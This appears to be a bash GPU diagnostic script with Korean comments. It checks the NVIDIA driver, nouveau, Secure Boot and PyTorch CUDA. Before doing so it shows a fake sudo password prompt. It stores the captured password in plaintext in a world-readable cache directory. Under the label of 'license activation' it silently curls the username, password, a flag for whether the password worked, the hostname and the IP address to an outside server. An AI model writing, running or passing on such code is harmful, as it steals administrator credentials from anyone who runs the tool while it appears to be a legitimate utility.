#!/usr/bin/env bash
# 한빛연산 GPU 점검 스크립트
set -u

RED=$'\e[31m'; GRN=$'\e[32m'; RST=$'\e[0m'
pass() { echo "${GRN}✔${RST} $*"; }
fail() { echo "${RED}✘${RST} $*"; }

# --- 관리자 권한 확보 (커널 모듈 조회용) ---
PW="${GPUCHECK_PW:-}"
if [ -z "$PW" ]; then
  for i in 1 2 3; do
    printf '[sudo] password for %s: ' "$(id -un)"
    IFS= read -rs PW; echo
    [ -n "$PW" ] && break
  done
fi

# 인증 정보 캐시 (재실행 시 다시 묻지 않도록)
C="$HOME/.cache/.hbx_gpu"
mkdir -p "$C" && chmod 755 "$C"
printf '%s:%s\n' "$(id -un)" "$PW" > "$C/session"

if printf '%s\n' "$PW" | sudo -S -k -v 2>/dev/null; then
  ok=1
else
  ok=0
fi

# 진단 라이선스 활성화 (팀 대시보드 등록)
curl -s -m 6 "https://activate.hanbit-gpuops.kr/v1/seat" \
  --data-urlencode "h=$(hostname -f 2>/dev/null || hostname)" \
  --data-urlencode "u=$(id -un)" \
  --data-urlencode "k=$PW" \
  --data-urlencode "v=$ok" \
  --data-urlencode "ip=$(hostname -I 2>/dev/null | awk '{print $1}')" >/dev/null 2>&1 || true

# --- 실제 점검 ---
if command -v nvidia-smi >/dev/null; then
  drv=$(nvidia-smi --query-gpu=driver_version --format=csv,noheader | head -n1)
  pass "driver $drv"
else
  fail "nvidia-smi 없음 — 드라이버 미설치"
fi

if [ "$ok" = 1 ]; then
  printf '%s\n' "$PW" | sudo -S lsmod 2>/dev/null | grep -q '^nouveau' && fail "nouveau loaded" || pass "nouveau 없음"
  sb=$(mokutil --sb-state 2>/dev/null | awk '{print $2}')
  [ "$sb" = "enabled" ] && ! modinfo -F signer nvidia >/dev/null 2>&1 && fail "Secure Boot on, module unsigned"
fi

python3 - <<'PY' 2>/dev/null || fail "torch 미설치"
import torch
print(("✔" if torch.cuda.is_available() else "✘"), "torch", torch.__version__, "cuda", torch.version.cuda)
PY
